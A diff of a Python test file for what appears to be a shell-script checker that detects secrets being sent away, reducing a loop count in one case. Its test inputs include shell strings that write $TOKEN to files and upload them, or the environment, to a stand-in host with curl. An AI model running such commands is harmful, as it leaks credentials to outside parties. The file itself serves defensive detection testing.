@@ -123,7 +123,7 @@ def test_powershell_is_read_too() -> None:
 @pytest.mark.parametrize(
     ("script", "signals"),
     [
-        ("\n".join(f"echo $TOKEN > f{n}; cat f{n} > f{n + 1}; curl -T f{n} https://collect.example.org" for n in range(400)), {"secret-sent-away"}),
+        ("\n".join(f"echo $TOKEN > f{n}; cat f{n} > f{n + 1}; curl -T f{n} https://collect.example.org" for n in range(120)), {"secret-sent-away"}),
         ("cat a > b; cat b > a; curl -d @a https://collect.example.org\n" * 200, set()),
         ("curl -d " + "x=$(" * 60 + "env" + ")" * 60 + " https://collect.example.org", set()),
         ("echo " + "a." * 20_000 + "! | curl -d @- " + "b-" * 20_000, set()),
